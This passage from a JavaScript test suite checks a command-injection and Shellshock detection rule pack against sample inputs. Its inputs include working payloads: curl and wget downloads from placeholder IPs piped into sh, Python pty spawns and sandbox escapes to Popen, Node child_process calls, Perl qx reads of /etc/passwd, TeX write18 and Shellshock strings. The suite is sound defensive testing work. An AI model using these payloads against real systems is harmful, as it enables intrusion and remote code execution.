  it('a DLL or share named in prose, or backticks of Markdown code, are no command', () => {
    expect(score(commandInjectionPack, 'the crash is in shell32.dll, see \\\\fileserver\\logs')).toBe(0);
    expect(score(commandInjectionPack, 'run `npm` and `yarn`+`pnpm` in CI')).toBe(0);
    expect(score(commandInjectionPack, 'costs price$usd /month; expr 3 + 4 is seven')).toBe(0);
    // Joined strings are any language's: only PowerShell's own cradles count once joined
    expect(score(commandInjectionPack, 'String s = "/bin/" + "sh";')).toBe(0);
    // A quote before an argument counts for a variable or a share only, not for quoted prose
    expect(score(commandInjectionPack, 'Hello\nFind "/settings" page and click')).toBe(0);
    // SQL's comparisons are no redirections: a query pasted on its own lines
    expect(score(commandInjectionPack, "select id\nfrom orders o\nwhere o.created_at >= '2023-01-01';\nIs it the join?")).toBe(0);
  });
});

describe('Python code that imports a process module and calls it, where a server evaluates input', () => {
  it('reads __import__ of os, subprocess or pty followed by a call, not the builtin named in prose', () => {
    expect(idsOf(commandInjectionPack, 'None) and False or __import__("subprocess").check_output("id",shell=True)#')).toContain(400129);
    expect(idsOf(commandInjectionPack, "__import__('pty').spawn('/bin/sh')")).toContain(400129);
    expect(idsOf(commandInjectionPack, 'use __import__ sparingly; prefer importlib.import_module(name)')).not.toContain(400129);
    expect(idsOf(commandInjectionPack, "json = __import__('json').dumps(x)")).not.toContain(400129);
    // The blind probe of the same injection
    expect(idsOf(commandInjectionPack, "[1,2,__import__('time').sleep(12)]")).toContain(400129);
  });

  it("reads TeX's shell stream written to (\\write18{...}), not the primitive named in prose", () => {
    expect(idsOf(commandInjectionPack, '\\immediate\\write18{id > /tmp/out.txt}')).toContain(400131);
    expect(idsOf(commandInjectionPack, '\\write18{curl http://203.0.113.8/x|sh}')).toContain(400131);
    expect(idsOf(commandInjectionPack, 'Is \\write18 enabled by default in TeX Live?')).not.toContain(400131);
  });

  it('reads a climb from an object to every loaded class (a sandbox escape to Popen), not a class listing its own subclasses', () => {
    expect(idsOf(commandInjectionPack, "[c for c in ().__class__.__bases__[0].__subclasses__() if c.__name__ == 'Popen'][0]('id', shell=True)")).toContain(
      400129,
    );
    expect(idsOf(commandInjectionPack, "''.__class__.__mro__[1].__subclasses__()[133]")).toContain(400129);
    expect(idsOf(commandInjectionPack, 'for plugin in BasePlugin.__subclasses__(): register(plugin)')).not.toContain(400129);
  });
});

describe('a download from a bare public address piped into a shell', () => {
  it('is read wherever the pipe sits: a quoted -c argument, a string handed to a process call, prose', () => {
    expect(idsOf(commandInjectionPack, '-c "curl -s http://203.0.113.7/m.sh|sh"')).toContain(400104);
    expect(idsOf(commandInjectionPack, "getattr(getattr(__builtins__,'__imp'+'ort__')('o'+'s'),'sys'+'tem')('curl -s 203.0.113.7/g|sh')")).toContain(400104);
    expect(idsOf(commandInjectionPack, 'To fix it run wget -qO- 198.51.100.23:8080/fix | bash and reboot.')).toContain(400104);
  });

  it("not a how-to's installer fetched by name, nor one from its own network's address", () => {
    expect(idsOf(commandInjectionPack, 'To install, run curl -fsSL https://get.docker.com | sh and then reboot the machine.')).not.toContain(400104);
    expect(idsOf(commandInjectionPack, 'On the build host run curl -s http://10.0.0.5/setup.sh | sh and wait.')).not.toContain(400104);
  });
});

describe('a package installed from an index on a bare public address', () => {
  it('reads a package name followed by --index-url or --registry on a public address, not a named or private index', () => {
    expect(idsOf(commandInjectionPack, 'requests --index-url http://203.0.113.7:8080/simple --trusted-host 203.0.113.7')).toContain(400123);
    expect(idsOf(commandInjectionPack, 'lodash --registry=http://198.51.100.4:4873/')).toContain(400123);
    expect(idsOf(commandInjectionPack, 'requests --index-url https://pypi.corp.example/simple')).not.toContain(400123);
    expect(idsOf(commandInjectionPack, 'requests==2.31 --index-url http://10.0.0.5/simple')).not.toContain(400123);
  });
});

describe('a backtick substitution glued to the value the form asked for', () => {
  it("reads `example.org`echo X`` as a command, not Markdown's code spans or a tagged template in a paste", () => {
    expect(idsOf(commandInjectionPack, 'example.org`echo WQRNKA`')).toContain(400105);
    expect(idsOf(commandInjectionPack, 'use`npm ci`')).toEqual([]);
    expect(idsOf(commandInjectionPack, 'the sql`select 1`')).toEqual([]);
  });
});

describe('classic ASP code writing a computed product (a code-evaluation probe)', () => {
  it('reads response.write of two numbers multiplied or added, not ASP writing text', () => {
    expect(idsOf(commandInjectionPack, 'response.write(9766788*9103614)')).toContain(400130);
    expect(idsOf(commandInjectionPack, 'x"&Response.Write(1234+5678)&"')).toContain(400130);
    expect(idsOf(commandInjectionPack, 'Response.Write("Hello " & name)')).not.toContain(400130);
  });
});

describe('Node.js code that starts a process, where a server evaluates input', () => {
  it('reads child_process reached by require or through the main module, and a synchronous spawn of a command string', () => {
    expect(idsOf(commandInjectionPack, "process.mainModule.require('child_process').execSync('id')")).toContain(400125);
    expect(idsOf(commandInjectionPack, "require('child_process').spawnSync('ls')")).toContain(400125);
    expect(idsOf(commandInjectionPack, 'The child_process module in the Node docs')).not.toContain(400125);
    expect(idsOf(commandInjectionPack, 'const out = execSync(cmd)')).not.toContain(400125);
  });

  it('reads property accesses written in brackets as the dotted accesses they are', () => {
    const bracketed = 'this["constructor"]["constructor"]("return process")()["mainModule"]["require"]("child_process")["execSync"]("id")';
    expect(idsOf(commandInjectionPack, bracketed)).toContain(400125);
    expect(idsOf(commandInjectionPack, 'config["mainModule"] = "child_process docs"')).not.toContain(400125);
  });
});

describe('Perl code that runs a command, where a server interpolates or evaluates input', () => {
  it('reads code interpolated in a string, qx with its delimiter and readpipe', () => {
    expect(idsOf(commandInjectionPack, '@{[system "wget -qO /tmp/p http://203.0.113.45/p.pl; perl /tmp/p"]}')).toContain(400128);
    expect(idsOf(commandInjectionPack, '${\\ qx{id}}')).toContain(400128);
    expect(idsOf(commandInjectionPack, 'qx{cat /etc/passwd}')).toContain(400128);
    expect(idsOf(commandInjectionPack, 'readpipe("id")')).toContain(400128);
  });

  it('leaves a model name and an interpolation of plain data', () => {
    expect(idsOf(commandInjectionPack, 'Infiniti QX (AWD)')).not.toContain(400128);
    expect(idsOf(commandInjectionPack, 'Total: @{[ $count ]} items')).not.toContain(400128);
  });
});

describe('Shellshock', () => {
  it('reads a function definition at a value start or inside one line, not in source code on several lines', () => {
    expect(idsOf(shellshockPack, '() { :; }; /bin/cat /etc/passwd')).toContain(920301);
    expect(idsOf(shellshockPack, 'x=() { :;}; echo vulnerable')).toContain(920302);
    expect(idsOf(shellshockPack, '() { _; } >_[$($())] { id; }\nsecond\nthird')).toContain(920302);
    const go = 'package main\n\nimport "fmt"\n\nfunc main() {\n\tx := 1\n\tfmt.Println(x)\n}\n';
    expect(idsOf(shellshockPack, go)).toEqual([]);
  });

  it("does not read JavaScript's anonymous functions as bash function definitions, and still reads a definition beside one", () => {
    const snippet = '<script>window.plausible = window.plausible || function() { (window.plausible.q = window.plausible.q || []).push(arguments) }</script>';
    expect(idsOf(shellshockPack, snippet)).toEqual([]);
    expect(idsOf(shellshockPack, `${snippet} () { :; }; /bin/id`)).toContain(920302);
  });
});
